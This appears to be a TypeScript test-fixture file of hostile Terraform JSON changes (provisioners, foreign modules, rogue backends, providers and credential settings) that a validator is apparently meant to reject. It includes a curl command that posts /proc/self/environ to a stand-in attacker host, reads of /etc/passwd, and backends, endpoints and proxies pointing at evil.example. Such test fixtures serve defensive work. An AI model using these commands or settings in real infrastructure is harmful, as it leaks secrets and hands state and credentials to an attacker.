// Hostile blocks and settings: provisioners, modules, other providers and backends, and the forms that hide them.
import { byJson, type JsonRow } from '../support.ts';

const task = 'aws_ecs_task_definition';
const provisioner = { 'local-exec': { command: 'curl -d @/proc/self/environ https://evil.example' } };

/** A new top-level block, or a new type in one. */
const add = (path: string, value: unknown) => ['', { [path]: value }] as const;

const unknownBlocks: readonly JsonRow[] = [
  ['block/unknown', 'a module from a Git repository', ...add('module', { x: { source: 'git::https://evil.example/x.git' } })],
  ['block/unknown', 'a module from a path', ...add('module', { x: { source: '../../../tmp/evil' } })],
  ['block/unknown', 'an import', ...add('import', [{ to: 'aws_iam_role.x', id: 'opsdeck-deploy' }])],
  ['block/unknown', 'a move', ...add('moved', [{ from: 'aws_iam_role.a', to: 'aws_iam_role.b' }])],
  ['block/unknown', 'locals', ...add('locals', { x: '1' })],
  [
    'block/unknown',
    'a removal with a provisioner',
    ...add('removed', [{ from: 'aws_iam_role.a', provisioner: { 'local-exec': { when: 'destroy', command: 'id' } } }]),
  ],
  [
    'block/unknown',
    'a check with data of its own',
    ...add('check', { x: { data: { http: { x: { url: 'https://evil.example' } } } } }),
  ],
  ['block/unknown', 'an action', ...add('action', { aws_lambda_invoke: { x: { config: {} } } })],
  ['block/unknown', 'a list', ...add('list', { aws_instance: { x: { provider: 'aws' } } })],
  ['block/unknown', 'a block in capitals', ...add('Resource', {})],
];

const forms: readonly JsonRow[] = [
  ['block/form', 'resources in a list', '', { resource: (old: unknown) => [old] }],
  ['block/form', 'variables in a list', '', { variable: (old: unknown) => [old] }],
  ['block/form', 'a text for a block', ...add('data', 'aws_caller_identity')],
  ['block/form', 'two terraform blocks', '', { terraform: (old: unknown) => [old, { backend: { local: {} } }] }],
];

export const blocks = [
  ...byJson('staging/service-pr-7', [
    ...unknownBlocks,
    ...forms,
    [
      'block/form',
      'a body in lists within lists',
      '',
      { 'resource.aws_lb_target_group': (old: unknown) => nestBodies(old, [[]]) },
    ],
    ['block/provisioner', 'a provisioner', task, { provisioner }],
    ['block/provisioner', 'a list of provisioners', task, { provisioner: [provisioner, provisioner] }],
    ['block/provisioner', 'a provisioner on a null_resource', ...add('resource.null_resource', { x: { provisioner } })],
    ['block/provisioner', 'a provisioner on terraform_data', ...add('resource.terraform_data', { x: [{ provisioner }] })],
    ['block/provisioner', 'a connection', task, { connection: { host: 'evil.example', agent: true } }],
    [
      'block/provisioner',
      'a remote-exec in a list of lists',
      '',
      { 'resource.aws_lb_target_group': (old: unknown) => nestBodies(old, [[{ provisioner }]]) },
    ],
    ['block/computed', 'a dynamic block', task, { dynamic: { volume: { for_each: [1], content: { host_path: '/' } } } }],
    [
      'block/computed',
      'a dynamic block in a block',
      'aws_ecs_service',
      { 'network_configuration.dynamic': { x: { for_each: '${[1]}' } } },
    ],
    ['block/computed', 'for_each', task, { for_each: '${toset(["a", "b"])}' }],
    ['block/computed', 'a million at once', 'aws_cloudwatch_log_group', { count: 1_000_000 }],
    ['block/argument', 'a provider of its own', task, { provider: 'aws.evil' }],
    [
      'block/argument',
      'a precondition that prints',
      task,
      { lifecycle: { precondition: { condition: false, error_message: '${var.image}' } } },
    ],
    ['block/argument', 'ignored changes that are computed', task, { lifecycle: { ignore_changes: ['${file("/etc/passwd")}'] } }],
    ['block/argument', 'a dependency that is no name', task, { depends_on: ['module.evil.x'] }],
    ['block/argument', 'a precondition of an output', '', { 'output.url.precondition': { condition: true, error_message: 'x' } }],
    [
      'block/argument',
      'a type with a default in it',
      '',
      { 'variable.image.type': 'object({x=optional(string,file("/etc/passwd"))})' },
    ],
    ['block/argument', 'an argument that variables do not have', '', { 'variable.image.deprecated': 'x' }],
    ['block/comment', 'a comment in a map is data', task, { tags: { '//': 'data' } }],
    ['block/comment', 'more in a comment than cdktf writes', task, { '//.provisioner_of': { x: 1 } }],
    ['block/comment', 'resources in the comment of the file', '', { '//.resource': { null_resource: {} } }],
    ['block/comment', 'a comment among types', '', { 'resource.//': {} }],
  ]),
  ...byJson('staging/service-pr-7', [
    ['settings/backend', 'another key', '', { 'terraform.backend.s3.key': 'production/service.tfstate' }],
    ['settings/backend', 'a bucket of its own', '', { 'terraform.backend.s3.bucket': 'evil' }],
    ['settings/backend', 'an endpoint of its own', '', { 'terraform.backend.s3.endpoints': { s3: 'https://evil.example' } }],
    [
      'settings/backend',
      'a role of its own',
      '',
      { 'terraform.backend.s3.assume_role': { role_arn: 'arn:aws:iam::aws:role/x' } },
    ],
    ['settings/backend', 'no lock', '', { 'terraform.backend.s3.use_lockfile': undefined }],
    ['settings/backend', 'a second one', '', { 'terraform.backend.http': { address: 'https://evil.example' } }],
    ['settings/backend', 'a local file', '', { 'terraform.backend': { local: { path: '/tmp/state' } } }],
    ['settings/backend', 'none', '', { 'terraform.backend': undefined }],
    ['settings/backend', 'none, for want of settings', '', { terraform: undefined }],
    ['settings/required-providers', 'another version', '', { 'terraform.required_providers.aws.version': '>= 5.0' }],
    ['settings/required-providers', 'a source of its own', '', { 'terraform.required_providers.aws.source': 'evil/aws' }],
    [
      'settings/required-providers',
      'a registry of its own',
      '',
      { 'terraform.required_providers.aws.source': 'evil.example/hashicorp/aws' },
    ],
    [
      'settings/required-providers',
      'one more',
      '',
      { 'terraform.required_providers.external': { source: 'hashicorp/external' } },
    ],
    ['settings/required-providers', 'aliases', '', { 'terraform.required_providers.aws.configuration_aliases': ['aws.evil'] }],
    ['settings/required-providers', 'none', '', { 'terraform.required_providers': undefined }],
    ['settings/terraform', 'a cloud', '', { 'terraform.cloud': { hostname: 'evil.example', organization: 'x' } }],
    ['settings/terraform', 'metadata for the provider', '', { 'terraform.provider_meta': { aws: { x: 1 } } }],
    ['settings/terraform', 'experiments', '', { 'terraform.experiments': ['x'] }],
    ['settings/terraform', 'the encryption of OpenTofu', '', { 'terraform.encryption': { state: {} } }],
    ['settings/terraform', 'an older Terraform', '', { 'terraform.required_version': '>= 0.12' }],
    ['settings/provider', 'another provider', ...add('provider.external', [{}])],
    [
      'settings/provider',
      'an alias',
      '',
      { 'provider.aws': (old: unknown[]) => [...old, { alias: 'evil', region: 'us-east-1' }] },
    ],
    ['settings/provider', 'an alias only', '', { 'provider.aws.0.alias': 'evil' }],
    ['settings/provider', 'a list of providers', '', { provider: (old: unknown) => [old, { null: {} }] }],
    ...[
      ['endpoints', [{ sts: 'https://evil.example' }]],
      ['profile', 'evil'],
      ['assume_role', [{ role_arn: '${var.image}' }]],
      ['assume_role_with_web_identity', [{ web_identity_token_file: '/proc/self/environ' }]],
      ['access_key', 'AKIAIOSFODNN7EXAMPLE'],
      ['secret_key', 'x'],
      ['token', 'x'],
      ['shared_credentials_files', ['/tmp/evil']],
      ['shared_config_files', ['/tmp/evil']],
      ['custom_ca_bundle', '/tmp/evil.pem'],
      ['http_proxy', 'http://evil.example'],
      ['https_proxy', 'http://evil.example'],
      ['insecure', true],
      ['ec2_metadata_service_endpoint', 'http://evil.example'],
      ['skip_credentials_validation', true],
      ['skip_requesting_account_id', true],
      ['sts_region', 'us-east-1'],
      ['s3_use_path_style', true],
      ['allowed_account_ids', ['111122223333']],
      ['ignore_tags', [{ keys: ['Environment'] }]],
    ].map(([key, value]): JsonRow => ['settings/provider-settings', `${key}`, '', { [`provider.aws.0.${key}`]: value }]),
    ['settings/provider-settings', 'another region', '', { 'provider.aws.0.region': 'us-east-1' }],
    [
      'settings/provider-settings',
      'the tags of production',
      '',
      { 'provider.aws.0.default_tags.0.tags.Environment': 'production' },
    ],
    ['settings/provider-settings', 'no tags', '', { 'provider.aws.0.default_tags': undefined }],
    ['settings/provider-settings', 'no provider block', '', { provider: undefined }],
  ]),
];

/** Puts each body into lists, with something beside it. */
function nestBodies(byName: unknown, [beside = []]: readonly (readonly unknown[])[]): unknown {
  return Object.fromEntries(Object.entries(byName as object).map(([name, body]) => [name, [[body], ...beside]]));
}
